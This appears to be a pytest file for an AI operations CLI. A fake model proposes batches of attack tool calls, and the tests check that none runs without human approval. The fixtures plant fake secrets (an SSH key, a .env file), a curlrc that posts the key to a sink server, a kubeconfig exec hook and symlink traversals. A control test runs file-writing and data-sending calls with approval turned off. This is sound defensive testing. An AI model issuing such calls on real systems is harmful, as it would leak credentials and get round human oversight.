"""The attack corpus, run for real through `opscopilot run` in `ask` and `read-only` modes.

A loopback model (the wire server, OpenAI format) proposes the attacks, a batch of tool
calls per turn; the real CLI classifies, decides and (where it would) runs them, with a real
SQLite store. After every turn: the canary file is untouched, no file appeared in the drop
folder, the sink server received nothing, and the planted secrets' marker never reached the
model or the sink. Most of the corpus runs in-process (click's CliRunner on the real CLI);
one batch also runs as a real subprocess (slow-marked).
"""

from __future__ import annotations

import json
import os
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.runtime.support import (
    CHAT_PATH,
    TEST_KEY,
    cli_env,
    opscopilot,
    text_reply,
    tool_call_reply,
)
from tests.support.wire_server import RecordedRequest, Reply, WireServer
from tests.tools.attack_corpus import Attack, attacks

MARKER = "MARKER-7f3a9c-never-leaves"
BATCH = 12
MODES = ("ask", "read-only")


class Places:
    """The files and servers every attack aims at, made fresh for one test."""

    def __init__(self, tmp: Path, sink: WireServer) -> None:
        self.tmp = tmp
        (tmp / "home" / ".ssh").mkdir(parents=True)
        self.secret = tmp / "home" / ".ssh" / "id_rsa"
        self.secret.write_text(f"-----BEGIN OPENSSH PRIVATE KEY----- {MARKER}\n")
        (tmp / "app").mkdir()
        self.envfile = tmp / "app" / ".env"
        self.envfile.write_text(f"DB_PASSWORD={MARKER}\n")
        self.link = tmp / "notes.txt"
        self.link.symlink_to(self.secret)
        self.canary = tmp / "canary.txt"
        self.canary.write_text("canary: untouched\n")
        os.utime(self.canary, (1_000_000_000, 1_000_000_000))
        self.drop = tmp / "drop"
        self.drop.mkdir()
        self.archive = tmp / "backup.tar"
        with tarfile.open(self.archive, "w") as tar:
            tar.add(self.canary, arcname="canary.txt")
        self.logroot = tmp / "logs"
        (self.logroot / "sub").mkdir(parents=True)
        (self.logroot / "app.log").write_text("GET / 200\n")
        (tmp / "logs" / "out").symlink_to(self.secret.parent)
        (tmp / "secret.txt").write_text(f"{MARKER}\n")
        self.kubeconfig = tmp / "kubeconfig"
        self.kubeconfig.write_text(
            "apiVersion: v1\nkind: Config\ncurrent-context: c\n"
            "clusters: [{name: k, cluster: {server: 'https://127.0.0.1:1'}}]\n"
            "contexts: [{name: c, context: {cluster: k, user: u}}]\n"
            "users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1beta1,"
            f" command: touch, args: ['{self.drop}/kube'], interactiveMode: Never}}}}]}}\n"
        )
        self.curlrc = tmp / "curlrc"
        self.curlrc.write_text(f'url = "{sink.url}/"\ndata = "@{self.secret}"\n')
        self.sink = sink

    def fill(self) -> dict[str, str]:
        return {
            "tmp": str(self.tmp),
            "secret": str(self.secret),
            "envfile": str(self.envfile),
            "link": str(self.link),
            "canary": str(self.canary),
            "drop": str(self.drop),
            "archive": str(self.archive),
            "logroot": str(self.logroot),
            "kubeconfig": str(self.kubeconfig),
            "curlrc": str(self.curlrc),
            "sink": self.sink.url,
        }

    def config(self) -> str:
        return (
            '[defaults]\nmodel = "openai:gpt-4o-mini"\n\n'
            "[tools.show_log]\n"
            'description = "Show one log file"\n'
            'command = ["cat", "{file}"]\n'
            'risk = "read"\n'
            "[tools.show_log.params.file]\n"
            'type = "path"\n'
            f'root = "{self.logroot}"\n\n'
            "[tools.unit_log]\n"
            'description = "Recent journal of a unit"\n'
            'command = ["journalctl", "-u", "{unit}", "-n", "5", "--no-pager"]\n'
            'risk = "read"\n'
            'params = { unit = { type = "string" } }\n'
        )

    def assert_untouched(self, model: WireServer) -> None:
        assert self.canary.read_text() == "canary: untouched\n"
        assert self.canary.stat().st_mtime == 1_000_000_000
        assert list(self.drop.iterdir()) == []
        assert self.sink.requests == [], [r.path for r in self.sink.requests]
        for request in model.requests:
            assert MARKER.encode() not in request.body


def script_batches(model: WireServer, batches: list[list[Attack]]) -> None:
    """The model proposes batch N when asked "batch N"; once it has results, it answers."""

    def answer(request: RecordedRequest) -> Reply:
        messages = request.json()["messages"]
        if any(m.get("role") == "tool" for m in messages):
            return text_reply("Done.")
        prompt = next(m["content"] for m in messages if m["role"] == "user")
        index = int(str(prompt).rsplit(" ", 1)[1])
        calls = [
            (f"call_{index}_{i}", attack.tool, attack.arguments)
            for i, attack in enumerate(batches[index])
        ]
        return tool_call_reply(*calls)

    model.handle(CHAT_PATH, answer)


def in_process_run(prompt: str, mode: str) -> tuple[int, dict[str, Any]]:
    from click.testing import CliRunner

    from opscopilot.cli.main import cli

    result = CliRunner().invoke(cli, ["run", prompt, "--approve", mode, "--json"])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.exit_code, json.loads(result.stdout)


def check_outcome(mode: str, code: int, outcome: dict[str, Any], batch: list[Attack]) -> None:
    statuses = {c["id"]: c["status"] for c in outcome["tool_calls"]}
    index = outcome["tool_calls"][0]["id"].split("_")[1] if outcome["tool_calls"] else "?"
    for i, attack in enumerate(batch):
        status = statuses.get(f"call_{index}_{i}")
        if attack.expect_error:
            # Refused by validation (denied) or by the program (error): nothing was shown.
            assert status in ("denied", "error"), (attack.label(), status)
        else:
            wanted = "awaiting_approval" if mode == "ask" else "denied"
            assert status == wanted, (attack.label(), status)
    if any(not a.expect_error for a in batch):
        assert code == (3 if mode == "ask" else 0), outcome


@pytest.fixture
def sink() -> Any:
    with WireServer() as server:
        yield server


def test_the_corpus_holds_at_least_150_attacks_in_every_class(tmp_path: Path, sink) -> None:
    corpus = attacks(Places(tmp_path, sink).fill())
    assert len(corpus) >= 150
    categories = {a.category for a in corpus}
    assert categories == {
        "run any program",
        "write a file",
        "read a secret",
        "send data out",
        "parser trick",
        "metadata",
        "custom-tool traversal",
    }


@pytest.mark.parametrize("mode", MODES)
def test_no_attack_runs_without_a_person(
    mode: str,
    wire_server: WireServer,
    sink: WireServer,
    isolated_home: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    target = tmp_path / "target"
    target.mkdir()
    places = Places(target, sink)
    (isolated_home / "config.toml").write_text(places.config())
    monkeypatch.setenv("OPENAI_BASE_URL", wire_server.url + "/v1")
    monkeypatch.setenv("OPENAI_API_KEY", TEST_KEY)
    monkeypatch.chdir(target)
    corpus = attacks(places.fill())
    batches = [corpus[i : i + BATCH] for i in range(0, len(corpus), BATCH)]
    script_batches(wire_server, batches)
    for index, batch in enumerate(batches):
        code, outcome = in_process_run(f"batch {index}", mode)
        check_outcome(mode, code, outcome, batch)
        places.assert_untouched(wire_server)


@pytest.mark.slow
@pytest.mark.parametrize("mode", MODES)
def test_a_batch_of_attacks_through_the_real_command(
    mode: str, wire_server: WireServer, sink: WireServer, isolated_home: Path, tmp_path: Path
) -> None:
    places = Places(tmp_path, sink)
    (isolated_home / "config.toml").write_text(places.config())
    corpus = attacks(places.fill())
    batches = [corpus[i::8][:BATCH] for i in range(2)]
    script_batches(wire_server, batches)
    env = cli_env(isolated_home, wire_server)
    for index, batch in enumerate(batches):
        done = opscopilot("run", f"batch {index}", "--approve", mode, "--json", env=env)
        check_outcome(mode, done.returncode, json.loads(done.stdout), batch)
        places.assert_untouched(wire_server)


def test_the_harness_sees_damage_when_calls_do_run(
    wire_server: WireServer,
    sink: WireServer,
    isolated_home: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The control: with `--approve all` the same kind of calls run, and every check trips."""
    places = Places(tmp_path, sink)
    (isolated_home / "config.toml").write_text(places.config())
    monkeypatch.setenv("OPENAI_BASE_URL", wire_server.url + "/v1")
    monkeypatch.setenv("OPENAI_API_KEY", TEST_KEY)
    fill = places.fill()
    batch = [
        Attack("write a file", "run_command", {"command": f"touch {fill['canary']}"}),
        Attack("run any program", "run_command", {"command": f"env touch {fill['drop']}/x"}),
        Attack("send data out", "http_check", {"url": f"{sink.url}/", "method": "POST"}),
    ]
    sink.handle("/", lambda request: Reply(200, b"ok", content_type="text/plain"))
    script_batches(wire_server, [batch])
    code, outcome = in_process_run("batch 0", "all")
    assert code == 0, outcome
    assert [c["status"] for c in outcome["tool_calls"]] == ["ok", "ok", "ok"]
    assert places.canary.stat().st_mtime != 1_000_000_000
    assert [p.name for p in places.drop.iterdir()] == ["x"]
    assert len(sink.requests) == 1
    with pytest.raises(AssertionError):
        places.assert_untouched(wire_server)
